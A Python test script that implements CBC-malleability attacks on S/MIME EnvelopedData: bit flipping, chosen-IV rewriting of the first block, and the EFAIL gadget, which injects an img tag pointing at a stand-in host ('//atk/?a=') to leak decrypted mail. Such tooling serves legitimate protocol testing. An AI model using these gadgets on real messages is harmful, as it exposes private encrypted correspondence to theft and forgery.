#!/usr/bin/env python3
"""Ciphertext attacks on AES-CBC EnvelopedData (EFAIL, USENIX Security 2018)
for the spoofing tests. The attacker holds a captured S/MIME message and
knows some of its plaintext -- the first block of every S/MIME entity is its
"Content-Type: ..." header, which every mailer writes the same way. CBC has
no integrity, and that knowledge is all a gadget needs: for a ciphertext
block C0 with predecessor IV and known plaintext P0, the pair (IV ^ P0 ^ X, C0)
decrypts to any chosen 16 bytes X, preceded by one block of garbage (the
decryption of the forged predecessor). No key is used anywhere below.

usage: attacks.py flip-bit BLOCK  < message > message     one bit of ciphertext block BLOCK flipped
       attacks.py chosen-iv TEXT   < message > message     the first plaintext block replaced by TEXT (16 bytes)
       attacks.py efail PREFIXLEN  < message > message     EFAIL exfiltration gadget (below)
The message is a whole S/MIME message (header, blank line, base64 body);
the output keeps its header and carries the changed EnvelopedData.
"""
import base64
import re
import sys

from asn1crypto import cms

BLOCK = 16


def split(message):
    match = re.search(rb"\r?\n\r?\n", message)
    header, body = message[:match.end()], message[match.end():]
    return header, base64.b64decode(b"".join(body.split()))


def join(header, der):
    text = base64.encodebytes(der).replace(b"\n", b"\r\n" if b"\r\n" in header else b"\n")
    return header + text


def load(der):
    info = cms.ContentInfo.load(der)
    encrypted = info["content"]["encrypted_content_info"]
    algorithm = encrypted["content_encryption_algorithm"]
    if algorithm["algorithm"].native not in ("aes128_cbc", "aes192_cbc", "aes256_cbc"):
        sys.exit("not AES-CBC: %s" % algorithm["algorithm"].native)
    return info, algorithm["parameters"].native, encrypted["encrypted_content"].native


def store(info, iv, ciphertext):
    encrypted = info["content"]["encrypted_content_info"]
    name = encrypted["content_encryption_algorithm"]["algorithm"].native
    encrypted["content_encryption_algorithm"] = {"algorithm": name, "parameters": iv}
    encrypted["encrypted_content"] = ciphertext
    return info.dump(force=True)


def xor(*blocks):
    out = bytearray(BLOCK)
    for block in blocks:
        for i in range(BLOCK):
            out[i] ^= block[i]
    return bytes(out)


def main():
    op = sys.argv[1]
    header, der = split(sys.stdin.buffer.read())
    info, iv, ciphertext = load(der)
    blocks = [ciphertext[i:i + BLOCK] for i in range(0, len(ciphertext), BLOCK)]
    # Every S/MIME entity our peers write starts with this block (known plaintext).
    known = b"Content-Type: te"
    if op == "flip-bit":
        index = int(sys.argv[2])
        block = bytearray(blocks[index])
        block[3] ^= 0x01
        blocks[index] = bytes(block)
    elif op == "chosen-iv":
        chosen = sys.argv[2].encode().decode("unicode_escape").encode("latin-1")
        assert len(chosen) == BLOCK, len(chosen)
        iv = xor(iv, known, chosen)
    elif op == "efail":
        # Keep the blocks that hold the known header (and the start of the HTML),
        # then open an <img> whose URL swallows the rest of the captured message:
        #   <header + start of html> GARBAGE <img ignore="abc GARBAGE " src="//atk/?a= GARBAGE <secret...>
        # The garbage sits inside attribute values, where a browser ignores it.
        keep = (int(sys.argv[2]) + BLOCK - 1) // BLOCK
        chosen = [b'<img ignore="abc', b'" src="//atk/?a=']
        out = blocks[:keep]
        for text in chosen:
            out += [xor(iv, known, text), blocks[0]]
        out += blocks[keep - 1:]  # blocks[keep-1] is garbage here; the rest decrypt to the original
        blocks = out
    else:
        sys.exit(__doc__)
    sys.stdout.buffer.write(join(header, store(info, iv, b"".join(blocks))))


if __name__ == "__main__":
    main()
